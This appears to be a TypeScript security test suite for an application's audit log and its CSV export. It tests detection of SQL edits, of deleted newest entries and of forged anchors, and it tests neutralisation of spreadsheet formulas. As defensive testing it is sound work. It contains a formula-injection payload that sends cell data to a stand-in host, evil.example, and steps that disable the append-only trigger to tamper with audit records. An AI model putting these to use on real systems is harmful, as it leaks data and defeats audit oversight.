import { randomUUID } from 'node:crypto';
import { Client } from 'pg';
import { DataSource } from 'typeorm';
import { auditHash, GENESIS_HASH } from '../../../src/modules/audit/audit-chain';
import { AuditKeyedChain1767000500000 } from '../../../src/platform/database/migrations/1767000500000-audit-keyed-chain';
import { createTestDatabase, type TestDatabase } from '../../support/database';
import { json, startTestApp, type TestApp } from '../../support/app';

/** The advisory lock the chainer holds (audit-event.repository.ts). */
const CHAIN_LOCK = 74_202;

interface Anchor {
  sequence: number;
  hash: string;
  at: string;
  mac: string;
}

/**
 * Attacks on the audit log by someone with database access (issue 10): edits, deletions of the newest entries,
 * recomputed hashes; and writers that must not queue behind one another. And formulas in CSV exports.
 */
describe('security: the audit log and CSV exports', () => {
  let db: TestDatabase;
  let gw: TestApp;
  let vendorCount = 0;

  beforeAll(async () => {
    db = await createTestDatabase();
    gw = await startTestApp({ databaseUrl: db.url });
  });

  afterAll(async () => {
    await gw?.close();
    await db?.drop();
  });

  /** An audited write: a vendor created through the API. */
  async function auditedWrite(name = `Vendor ${++vendorCount}`): Promise<void> {
    const res = await gw.api('/v1/vendors', { method: 'POST', json: { name } });
    expect(res.status).toBe(201);
  }

  const verify = async (full: boolean) => json(await gw.api(`/v1/audit/verify?full=${full}`));

  /** Runs SQL as an editor of the database would, past the append-only trigger. */
  async function behindItsBack(sql: string, params: unknown[] = []): Promise<void> {
    await db.query(`ALTER TABLE audit_event DISABLE TRIGGER trg_audit_event_append_only`);
    try {
      await db.query(sql, params);
    } finally {
      await db.query(`ALTER TABLE audit_event ENABLE TRIGGER trg_audit_event_append_only`);
    }
  }

  describe('writers', () => {
    it('append without waiting for the chain: every write completes while the chain lock is held', async () => {
      const holder = new Client({ connectionString: db.url });
      await holder.connect();
      try {
        await holder.query(`SELECT pg_advisory_lock($1)`, [CHAIN_LOCK]);
        const before = await db.query<{ n: string }>(`SELECT max(seq) AS n FROM audit_event`);
        // 20 concurrent audited writes, all acknowledged while nobody can chain.
        await Promise.all(Array.from({ length: 20 }, () => auditedWrite()));
        const waiting = await db.query<{ seq: string }>(
          `SELECT seq FROM audit_event WHERE seq > $1 AND chain_seq IS NULL AND action = 'POST /v1/vendors'`,
          [before[0].n ?? 0],
        );
        expect(waiting).toHaveLength(20);
      } finally {
        await holder.query(`SELECT pg_advisory_unlock($1)`, [CHAIN_LOCK]);
        await holder.end();
      }
    });

    it('are all chained afterwards, in order of their numbers, every place taken once', async () => {
      const chain = await verify(false);
      expect(chain).toMatchObject({ valid: true, reason: null });
      const rows = await db.query<{ seq: string; chain_seq: string | null }>(
        `SELECT seq, chain_seq FROM audit_event ORDER BY seq`,
      );
      expect(rows.every((r) => r.chain_seq !== null)).toBe(true);
      const places = rows.map((r) => Number(r.chain_seq));
      expect([...places].sort((a, b) => a - b)).toEqual(rows.map((_, i) => i + 1));
      // The twenty waited together, so the chainer met them at once and took them by their numbers.
      const lastTwenty = places.slice(-20);
      expect(lastTwenty).toEqual([...lastTwenty].sort((a, b) => a - b));
      expect(chain.checked).toBe(rows.length);
      expect(await verify(true)).toMatchObject({ valid: true, checked: rows.length });
    });

    it('cannot have an entry edited or removed by the database, even one not yet chained', async () => {
      await expect(
        db.query(`UPDATE audit_event SET action = 'x' WHERE chain_seq IS NOT NULL`),
      ).rejects.toThrow(/append-only/);
      await expect(db.query(`UPDATE audit_event SET hash = repeat('a', 64)`)).rejects.toThrow(/append-only/);
      await db.query(`INSERT INTO audit_event (at, actor_type, action) VALUES (now(), 'system', 'probe')`);
      await expect(db.query(`UPDATE audit_event SET action = 'x' WHERE chain_seq IS NULL`)).rejects.toThrow(
        /append-only/,
      );
      await expect(db.query(`DELETE FROM audit_event`)).rejects.toThrow(/append-only/);
    });
  });

  describe('an entry edited in SQL', () => {
    it('is found by the full verification, which names it, even with its hash recomputed', async () => {
      for (let i = 0; i < 3; i++) await auditedWrite();
      expect(await verify(false)).toMatchObject({ valid: true });
      const [victim] = await db.query<{ seq: string; id: string; prev_hash: string }>(
        `SELECT seq, id, prev_hash FROM audit_event WHERE action = 'POST /v1/vendors' ORDER BY chain_seq LIMIT 1 OFFSET 1`,
      );
      // Without the key, the editor can only recompute an unkeyed hash.
      await behindItsBack(
        `UPDATE audit_event SET actor_name = 'someone else',
           hash = encode(sha256(convert_to(prev_hash || 'forged', 'UTF8')), 'hex') WHERE seq = $1`,
        [victim.seq],
      );
      expect(await verify(true)).toMatchObject({
        valid: false,
        mode: 'full',
        first_broken_seq: Number(victim.seq),
        broken_entry_id: victim.id,
      });
    });

    it('is found on the next read when it is the verified checkpoint itself', async () => {
      const [newest] = await db.query<{ seq: string; id: string }>(
        `SELECT seq, id FROM audit_event WHERE chain_seq IS NOT NULL ORDER BY chain_seq DESC LIMIT 1`,
      );
      await behindItsBack(`UPDATE audit_event SET outcome = 'failure' WHERE seq = $1`, [newest.seq]);
      const page = await json(await gw.api('/v1/audit?limit=1'));
      expect(page.chain).toMatchObject({
        valid: false,
        reason: 'checkpoint_changed',
        first_broken_seq: Number(newest.seq),
        broken_entry_id: newest.id,
      });
    });
  });
});

describe('security: removing the newest audit entries', () => {
  let db: TestDatabase;
  let gw: TestApp;

  beforeAll(async () => {
    db = await createTestDatabase();
    gw = await startTestApp({ databaseUrl: db.url });
    for (let i = 0; i < 5; i++) {
      const res = await gw.api('/v1/vendors', { method: 'POST', json: { name: `Vendor ${i}` } });
      expect(res.status).toBe(201);
    }
  });

  afterAll(async () => {
    await gw?.close();
    await db?.drop();
  });

  const anchor = async (): Promise<Anchor> => json(await gw.api('/v1/audit/anchor'));
  const checkAnchor = (a: Anchor) => gw.api('/v1/audit/verify', { method: 'POST', json: a });

  it('exports an anchor of the head that verifies while the log is intact', async () => {
    const exported = await anchor();
    expect(exported).toEqual({
      sequence: expect.any(Number),
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      at: expect.any(String),
      mac: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    const [head] = await db.query<{ n: string }>(`SELECT max(chain_seq) AS n FROM audit_event`);
    expect(exported.sequence).toBe(Number(head.n));
    const res = await checkAnchor(exported);
    expect(res.status).toBe(200);
    expect(await json(res)).toMatchObject({ valid: true, anchor_entry: 'present', chain: { valid: true } });
  });

  it('refuses an anchor it did not issue, naming the mac', async () => {
    const exported = await anchor();
    const forged = { ...exported, sequence: exported.sequence - 1 };
    const res = await checkAnchor(forged);
    expect(res.status).toBe(400);
    expect(JSON.stringify((await json(res)).errors)).toContain('mac');
    const malformed = await checkAnchor({ ...exported, hash: 'not hex' });
    expect(malformed.status).toBe(400);
    expect(JSON.stringify((await json(malformed)).errors)).toContain('hash');
  });

  it.each([
    ['sequence', { sequence: 2 ** 60 }],
    ['sequence', { sequence: -1 }],
    ['at', { at: '2026-02-30T00:00:00Z' }],
    ['at', { at: 'yesterday\u0000' }],
    ['mac', { mac: undefined }],
  ])('refuses a malformed anchor with a 400 naming %s', async (field, change) => {
    const res = await checkAnchor({ ...(await anchor()), ...change } as Anchor);
    expect(res.status).toBe(400);
    expect(JSON.stringify((await json(res)).errors)).toContain(field);
  });

  it('refuses a full flag other than true or false, naming it', async () => {
    const res = await gw.api('/v1/audit/verify?full=yes');
    expect(res.status).toBe(400);
    expect(JSON.stringify((await json(res)).errors)).toContain('full');
  });

  it('detects the newest entries deleted, against the exported anchor, even after new entries took their places', async () => {
    const exported = await anchor();
    // The editor removes the newest entries (the anchor's among them)…
    await db.query(`ALTER TABLE audit_event DISABLE TRIGGER trg_audit_event_append_only`);
    await db.query(`DELETE FROM audit_event WHERE chain_seq > $1`, [exported.sequence - 3]);
    await db.query(`ALTER TABLE audit_event ENABLE TRIGGER trg_audit_event_append_only`);
    const truncated = await json(await checkAnchor(exported));
    expect(truncated).toMatchObject({ valid: false, anchor_entry: 'missing' });
    // …the log's own checkpoint notices too…
    const page = await json(await gw.api('/v1/audit?limit=1'));
    expect(page.chain).toMatchObject({ valid: false, reason: 'checkpoint_missing' });
    // …and new writes chained at the freed places do not make the anchor verify again.
    for (let i = 0; i < 4; i++) await gw.api('/v1/vendors', { method: 'POST', json: { name: `Later ${i}` } });
    await gw.api('/v1/audit?limit=1');
    expect(await json(await checkAnchor(exported))).toMatchObject({ valid: false, anchor_entry: 'changed' });
  });
});

describe('security: CSV exports', () => {
  let db: TestDatabase;
  let gw: TestApp;

  beforeAll(async () => {
    db = await createTestDatabase();
    gw = await startTestApp({ databaseUrl: db.url });
  });

  afterAll(async () => {
    await gw?.close();
    await db?.drop();
  });

  it('neutralise a vendor named like a formula and quote semicolons', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '  @SUM(A1)', 'Müller; Söhne'];
    for (const name of names) {
      const res = await gw.api('/v1/vendors', { method: 'POST', json: { name } });
      expect(res.status).toBe(201);
    }
    const csv = await (await gw.api('/v1/exports/vendors.csv')).text();
    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
    expect(csv).toContain(`,'  @SUM(A1),`);
    expect(csv).toContain(`,"Müller; Söhne",`);
    // No cell starts with a formula character, whatever the separator a spreadsheet splits on.
    const cells = csv.split(/\r\n|[,;]/).map((c) => c.replace(/^"/, ''));
    expect(cells.filter((c) => /^\s*[=+@]/.test(c))).toEqual([]);
  });
});

describe('security: audit entries written before the keyed chain', () => {
  let db: TestDatabase;
  let gw: TestApp;
  const LEGACY = 4;

  beforeAll(async () => {
    db = await createTestDatabase();
    // The database as the previous release left it: the keyed-chain migration not applied, and entries
    // chained with the unkeyed SHA-256 of that release.
    const dataSource = new DataSource({ type: 'postgres', url: db.url });
    await dataSource.initialize();
    const runner = dataSource.createQueryRunner();
    try {
      await new AuditKeyedChain1767000500000().down(runner);
      await runner.query(`DELETE FROM migrations WHERE name = 'AuditKeyedChain1767000500000'`);
      let prev = GENESIS_HASH;
      for (let n = 1; n <= LEGACY; n++) {
        const row = {
          id: randomUUID(),
          at: new Date(Date.UTC(2026, 10, 1, 12, 0, n)),
          actor_type: 'user',
          actor_id: 'u-1',
          actor_name: 'dpo@example.com',
          action: `POST /v1/vendors`,
          target_type: 'vendors',
          target_id: `v-${n}`,
          ip: '127.0.0.1',
          outcome: 'success',
          details: { lookup: [] },
        };
        const hash = auditHash(prev, row);
        await runner.query(
          `INSERT INTO audit_event (id, at, actor_type, actor_id, actor_name, action, target_type, target_id, ip,
             outcome, details, prev_hash, hash) VALUES ($1,$2,$3,$4,$5,$6,$7,$8,$9,$10,$11,$12,$13)`,
          [...Object.values(row).slice(0, 10), JSON.stringify(row.details), prev, hash],
        );
        prev = hash;
      }
    } finally {
      await runner.release();
      await dataSource.destroy();
    }
    // Starting the new release applies the migration.
    gw = await startTestApp({ databaseUrl: db.url });
  });

  afterAll(async () => {
    await gw?.close();
    await db?.drop();
  });

  it('keeps them as a verified legacy prefix, and continues the chain keyed from their last hash', async () => {
    const [state] = await db.query<{ legacy_through: string; legacy_head: string }>(
      `SELECT legacy_through, legacy_head FROM audit_chain_state`,
    );
    expect(Number(state.legacy_through)).toBe(LEGACY);
    const res = await gw.api('/v1/vendors', { method: 'POST', json: { name: 'After the upgrade' } });
    expect(res.status).toBe(201);
    expect(await json(await gw.api('/v1/audit/verify?full=true'))).toMatchObject({ valid: true });
    const [first] = await db.query<{ prev_hash: string; hash: string; chain_seq: string }>(
      `SELECT prev_hash, hash, chain_seq FROM audit_event WHERE chain_seq = $1`,
      [LEGACY + 1],
    );
    expect(first.prev_hash).toBe(state.legacy_head);
  });

  it('still finds a legacy entry edited in SQL', async () => {
    const [victim] = await db.query<{ seq: string }>(`SELECT seq FROM audit_event WHERE chain_seq = 2`);
    await db.query(`ALTER TABLE audit_event DISABLE TRIGGER trg_audit_event_append_only`);
    await db.query(`UPDATE audit_event SET target_id = 'v-other' WHERE seq = $1`, [victim.seq]);
    await db.query(`ALTER TABLE audit_event ENABLE TRIGGER trg_audit_event_append_only`);
    expect(await json(await gw.api('/v1/audit/verify?full=true'))).toMatchObject({
      valid: false,
      first_broken_seq: Number(victim.seq),
    });
  });

  it('refuses a legacy boundary moved in SQL (the state row is sealed with the chain key)', async () => {
    await db.query(`UPDATE audit_chain_state SET legacy_through = legacy_through + 1`);
    expect(await json(await gw.api('/v1/audit/verify'))).toMatchObject({
      valid: false,
      reason: 'state_altered',
    });
  });
});
